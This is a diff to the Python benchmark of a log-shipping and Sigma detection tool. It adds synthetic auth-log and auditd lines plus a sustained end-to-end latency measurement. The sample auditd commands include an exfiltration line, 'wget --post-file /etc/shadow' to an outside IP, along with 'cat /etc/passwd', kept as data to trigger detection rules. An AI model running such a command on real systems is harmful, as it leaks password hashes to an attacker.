@@ -8,6 +8,7 @@ Two measurements on the same generated Kubernetes audit log:
 
 from __future__ import annotations
 
+import datetime as dt
 import json
 import os
 import random
@@ -17,6 +18,7 @@ import tempfile
 import time
 from importlib import resources
 from pathlib import Path
+from typing import Any
 
 import orjson
 
@@ -255,40 +257,226 @@ def normalize_throughput(lines: int = 50_000) -> dict[str, int]:
     return out
 
 
+# --- detection -----------------------------------------------------------------------------------
+
+DETECT_MIX = (("k8s_audit", 8), ("syslog", 1), ("auditd", 1))
+"""The detection workload: of every 10 lines, 8 Kubernetes audit events, 1 auth log line, 1 auditd event."""
+
+_AUTH_LINES = (
+    "{ts} node-1 sshd[{pid}]: Failed password for invalid user {user} from 203.0.113.{n} port {port} ssh2",
+    "{ts} node-1 sshd[{pid}]: Accepted publickey for ops from 192.0.2.10 port {port} ssh2: ED25519 SHA256:q3Rk0y",
+    "{ts} node-1 sudo:      ops : TTY=pts/0 ; PWD=/home/ops ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
+    "{ts} node-1 sshd[{pid}]: pam_unix(sshd:session): session opened for user ops(uid=1001) by (uid=0)",
+)
+_AUDITD_COMMANDS = (("whoami",), ("cat", "/etc/passwd"), ("grep", "--color=auto", "mapping"),
+                    ("wget", "--post-file", "/etc/shadow", "http://203.0.113.5/"), ("ls", "-la", "/tmp"))
+
+
+SITE_RULES = """\
+title: the bench cluster's own users (site settings, as an operator sets them for Falco's rules)
+placeholders_append:
+  allowed_k8s_users: [alice@example.com, bob@example.com]
+"""
+"""Appended to the built-in packs: the generated cluster's two human users are its known users, as
+an operator lists them, so that Falco's `Disallowed K8s User` does not alert on 40% of all events."""
+
+
+def detect_specs(folder: Path) -> list[str]:
+    """Every built-in pack, plus `SITE_RULES` (written to `folder`)."""
+    site = folder / "bench-site.yml"
+    site.write_text(SITE_RULES, encoding="utf-8")
+    return ["builtin:all", str(site)]
+
+
+class DetectWorkload:
+    """Lines of the detection mix, each stamped with the time it is made (the latency's start)."""
+
+    def __init__(self, seed: int = 0) -> None:
+        self.rng = random.Random(seed)
+        self.k8s = [orjson.loads(line) for line in generate_audit_events(2000, seed=seed)]
+        self.serial = 1000
+        self.count = 0
+
+    def line(self, source_type: str, now: float) -> bytes:
+        self.count += 1
+        if source_type == "k8s_audit":
+            event = self.k8s[self.count % len(self.k8s)]
+            stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(now)) + f".{int((now % 1) * 1e6):06d}Z"
+            event["requestReceivedTimestamp"] = event["stageTimestamp"] = stamp
+            return orjson.dumps(event)
+        if source_type == "syslog":
+            stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(now)) + f".{int((now % 1) * 1e6):06d}+00:00"
+            template = self.rng.choice(_AUTH_LINES)
+            return template.format(ts=stamp, pid=self.rng.randrange(2000, 60000), n=self.rng.randrange(1, 255),
+                                   port=self.rng.randrange(1024, 65536),
+                                   user=self.rng.choice(["admin", "oracle", "test", "ubnt"])).encode()
+        self.serial += 1
+        args = self.rng.choice(_AUDITD_COMMANDS)
+        head = f"msg=audit({now:.3f}:{self.serial}):"
+        argv = " ".join(f'a{i}="{a}"' for i, a in enumerate(args))
+        return "\n".join([
+            f"type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=900 "
+            f'pid={self.rng.randrange(1000, 60000)} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 '
+            f'egid=1000 sgid=1000 fsgid=1000 tty=pts1 ses=2 comm="{args[0]}" exe="/usr/bin/{args[0]}" key=(null)',
+            f"type=EXECVE {head} argc={len(args)} {argv}",
+            f'type=CWD {head} cwd="/home/ops"',
+            f'type=PATH {head} item=0 name="/usr/bin/{args[0]}" inode=2512 dev=08:01 mode=0100755 ouid=0 ogid=0 '
+            "rdev=00:00 nametype=NORMAL",
+            f"type=EOE {head}"]).encode()
+
+    def normalized(self, count: int) -> list[dict[str, Any]]:
+        """`count` lines of the mix, normalized as the agent does and JSON round-tripped as the aggregator sees them."""
+        from agent.normalize import SourceContext, assembler_for
+
+        assemblers = {t: assembler_for(t, SourceContext(host_name="bench", path=f"/var/log/{t}.log"))
+                      for t, _ in DETECT_MIX}
+        cycle = [t for t, n in DETECT_MIX for _ in range(n)]
+        received = "2026-11-26T10:00:00.000000Z"
+        out: list[dict[str, Any]] = []
+        for i in range(count):
+            kind = cycle[i % len(cycle)]
+            for line in self.line(kind, 1_780_000_000.0 + i / 10_000).split(b"\n"):
+                out.extend(assemblers[kind].feed(line, i, received))
+        for assembler in assemblers.values():
+            out.extend(assembler.flush(received, force=True))
+        return [orjson.loads(orjson.dumps(e)) for e in out]
+
+
 def detect_events_per_s(count: int = 20_000) -> int:
-    """Sigma evaluation with every built-in pack loaded, on normalized Kubernetes audit events."""
+    """Sigma evaluation on one core with every built-in pack loaded, over the detection mix."""
     from agent.detect.bench import detect_throughput
-    from agent.normalize import SourceContext, assembler_for
 
-    assembler = assembler_for("k8s_audit", SourceContext(host_name="bench", path="/var/log/audit.log"))
-    events = [orjson.loads(orjson.dumps(e)) for i, line in enumerate(generate_audit_events(count))
-              for e in assembler.feed(line, i, "2026-11-26T10:00:00.000000Z")]
-    return round(detect_throughput(events))
+    with tempfile.TemporaryDirectory(prefix="logseal-bench-rules-") as tmp:
+        return round(detect_throughput(DetectWorkload().normalized(count), detect_specs(Path(tmp))))
 
 
-def detect_latency_p99_s(rate: int = 10_000, seconds: float = 4.0, batch: int = 500) -> float:
-    """p99 of arrival-to-evaluated time per batch when events arrive at `rate` per second in batches,
-    with every built-in pack loaded: the aggregator's detection thread, run on one core."""
-    from agent.detect import Detector
-    from agent.normalize import SourceContext, assembler_for
+def _iso_seconds(stamp: str) -> float | None:
+    try:
+        return dt.datetime.fromisoformat(stamp.replace("Z", "+00:00")).timestamp()
+    except ValueError:
+        return None
 
-    assembler = assembler_for("k8s_audit", SourceContext(host_name="bench", path="/var/log/audit.log"))
-    count = int(rate * seconds)
-    events = [orjson.loads(orjson.dumps(e)) for i, line in enumerate(generate_audit_events(count))
-              for e in assembler.feed(line, i, "2026-11-26T10:00:00.000000Z")]
-    detector = Detector.load(["builtin:all"])
+
+class _AlertWatcher:
+    """Reads new lines of the aggregator's alerts file, noting when each was first seen."""
+
+    def __init__(self, path: Path, marker: bytes) -> None:
+        self.path = path
+        self.marker = marker
+        self.marked = False  # an alert holding `marker` was seen
+        self.offset = 0
+        self.partial = b""
+        self.seen: list[tuple[float, bytes]] = []
+
+    def poll(self) -> bool:
+        """Read what was appended; True once the marker was seen."""
+        try:
+            with self.path.open("rb") as f:
+                f.seek(self.offset)
+                data = f.read()
+        except FileNotFoundError:
+            return False
+        if data:
+            now = time.time()
+            self.offset += len(data)
+            *lines, self.partial = (self.partial + data).split(b"\n")
+            self.seen.extend((now, line) for line in lines if line)
+            self.marked = self.marked or any(self.marker in line for line in lines)
+        return self.marked
+
+
+def _percentile(values: list[float], q: float) -> float:
+    ordered = sorted(values)
+    return ordered[min(len(ordered) - 1, int(len(ordered) * q))] if ordered else float("nan")
+
+
+def detect_latency_sustained(rate: int = 10_000, seconds: float = 30.0, tick_s: float = 0.01) -> dict[str, float | int]:
+    """Detection latency on the whole path under a sustained paced load.
+
+    A real agent tails three files (Kubernetes audit, auth log, auditd: `DETECT_MIX`) and ships to a
+    real aggregator running every built-in pack (`[detect] rules = ["builtin:all"]`, alerts to
+    `STORE/alerts.jsonl`). This process appends `rate` lines per second for `seconds`, every
+    `tick_s`, each stamped with its write time, and watches the alerts file. An alert's latency is
+    the time this process first saw it in the file minus the `@timestamp` of the event it matched
+    (its write time): line written on the node to alert written, including the agent's batching
+    (`linger_ms`), shipping, storing, detection and the alert outbox. Single-event alerts only
+    (correlations wait for their window by design). Figures are as good as the machine is idle.
+    """
+    with tempfile.TemporaryDirectory(prefix="logseal-bench-detect-") as tmp:
+        ws = Workspace(Path(tmp))
+        ws.enrol("bench")
+        files = {t: ws.root / f"{t}.log" for t, _ in DETECT_MIX}
+        handles = {t: path.open("ab") for t, path in files.items()}
+        workload = DetectWorkload(seed=1)
+        try:
+            specs = ", ".join(f'"{spec}"' for spec in detect_specs(ws.root))
+            ws.start_aggregator(f"[detect]\nrules = [{specs}]\n")
+            agent = ws.start_agent(ws.agent_config("bench", [(t, str(p)) for t, p in files.items()]))
+            end_user = "logseal-bench-end"
+            watcher = _AlertWatcher(ws.store / "alerts.jsonl", end_user.encode())
+
+            def write(kind: str, now: float) -> None:
+                handles[kind].write(workload.line(kind, now) + b"\n")
+
+            # warm-up: one line per source, stored, so that start-up is not measured
+            for kind in files:
+                write(kind, time.time())
+                handles[kind].flush()
+            wait_for(lambda: ws.stored_events() >= len(files) or not agent.running(), 120,
+                     "the warm-up events to be stored", interval_s=0.05)
+            cycle = [t for t, n in DETECT_MIX for _ in range(n)]
+            written = 0
+            start = time.time()
+            lag = 0.0
+            while (now := time.time()) < start + seconds:
+                due = int((now - start) * rate)
+                lag = max(lag, (due - written) / rate)
+                while written < due:
+                    write(cycle[written % len(cycle)], time.time())
+                    written += 1
+                for handle in handles.values():
+                    handle.flush()
+                watcher.poll()
+                time.sleep(max(0.0, start + (written + tick_s * rate) / rate - time.time()))  # pacing
+            wrote_s = time.time() - start
+            total = written + len(files)
+            # drain: everything stored, then a last event whose alert marks the end of detection
+            wait_for(lambda: watcher.poll() or ws.stored_events() >= total, 300,
+                     f"{total} events to be stored", interval_s=0.05)
+            stored_s = time.time() - start
+            event = dict(workload.k8s[0], user={"username": end_user, "groups": []})
+            handles["k8s_audit"].write(orjson.dumps(event) + b"\n")
+            handles["k8s_audit"].flush()
+            wait_for(watcher.poll, 300, "the last event's alert (Disallowed K8s User)", interval_s=0.02)
+            detected_s = time.time() - start
+        finally:
+            for handle in handles.values():
+                handle.close()
+            ws.stop_all()
     latencies = []
-    start = time.perf_counter()
-    for first in range(0, len(events), batch):
-        arrival = start + first / rate
-        now = time.perf_counter()
-        if now < arrival:
-            time.sleep(arrival - now)  # pacing the simulated arrivals, not synchronisation
-        for event in events[first:first + batch]:
-            detector.process(event)
-        latencies.append(time.perf_counter() - arrival)
-    latencies.sort()
-    return round(latencies[min(len(latencies) - 1, int(len(latencies) * 0.99))], 3)
+    alerts = 0
+    for seen, line in watcher.seen:
+        if watcher.marker in line:
+            continue
+        doc = orjson.loads(line)
+        if doc.get("logseal", {}).get("alert", {}).get("kind") != "match":
+            continue
+        alerts += 1
+        t = _iso_seconds(str(doc.get("@timestamp", "")))
+        if t is not None and t >= start:
+            latencies.append(seen - t)
+    at = f"{rate // 1000}k" if rate % 1000 == 0 else str(rate)
+    return {
+        f"detect_latency_p99_s_at_{at}": round(_percentile(latencies, 0.99), 3),
+        f"detect_latency_p50_s_at_{at}": round(_percentile(latencies, 0.50), 3),
+        f"detect_latency_max_s_at_{at}": round(max(latencies, default=float("nan")), 3),
+        "detect_sustained_events_per_s": round(written / wrote_s),
+        "detect_sustained_seconds": round(wrote_s, 1),
+        "detect_writer_max_lag_s": round(lag, 3),
+        "detect_alerts_timed": len(latencies),
+        "detect_all_stored_after_s": round(stored_s, 1),
+        "detect_all_detected_after_s": round(detected_s, 1),
+    }
 
 
 def run_bench(events: int, as_json: bool) -> int:
@@ -299,7 +487,7 @@ def run_bench(events: int, as_json: bool) -> int:
     figures: dict[str, object] = dict(measure(events))
     figures["normalize_events_per_s"] = normalize_throughput()
     figures["detect_events_per_s"] = detect_events_per_s()
-    figures["detect_latency_p99_s_at_10k_events_per_s"] = detect_latency_p99_s()
+    figures.update(detect_latency_sustained())
     if as_json:
         print(json.dumps(figures, indent=2))
     else:
